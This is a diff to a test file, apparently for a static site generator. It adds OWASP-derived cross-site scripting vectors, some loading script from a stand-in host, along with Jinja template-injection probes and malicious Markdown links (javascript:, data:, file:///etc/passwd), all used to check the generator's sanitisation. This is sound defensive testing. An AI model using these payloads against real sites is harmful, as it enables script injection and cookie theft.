@@ -24,6 +24,66 @@ quotes:
     quote: the talks were over
 """
 
+# The vectors of the OWASP XSS Filter Evasion Cheat Sheet, and a few aimed at
+# our own outputs (JSON-LD, the Atom feed, Jinja).
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
+    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116\">",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+    "<iframe src=https://xss.example/scriptlet.html <",
+    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
+    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
+    "<svg/onload=alert('XSS')>",
+    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    "<BASE HREF=\"javascript:alert('XSS');//\">",
+    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
+    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">",
+    "\"><script>alert(1)</script>",
+    "' onmouseover='alert(1)' x='",
+    "</script><script>alert(1)</script>",
+    "<!--<script>alert(1)</script>-->",
+    "]]><script>alert(1)</script><![CDATA[",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "{{ 7*7 }}",
+    "{% for x in range(3) %}{{ x }}{% endfor %}",
+    "{{ self.__init__.__globals__ }}",
+    "\u202e<script>alert(1)</script>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<x onclick=alert(1) tabindex=0>click</x>",
+]
+
+MARKDOWN_LINKS = [  # (Markdown, the URL that must not be published)
+    ("[click](javascript:alert(1))", "javascript:alert(1)"),
+    ("[click](JaVaScRiPt:alert(1))", "JaVaScRiPt:alert(1)"),
+    ("[click](vbscript:msgbox(1))", "vbscript:msgbox(1)"),
+    ("[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+     "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
+    ("![click](javascript:alert(1))", "javascript:alert(1)"),
+    ("![click](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
+     "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="),
+    ("[click][ref]", "javascript:alert(1)"),  # with the reference below the paragraph
+    ("[click](file:///etc/passwd)", "file:///etc/passwd"),
+]
+
+
 # Every element and attribute the default theme and the Markdown renderer emit;
 # anything else in a page came from content.
 ELEMENTS = frozenset(
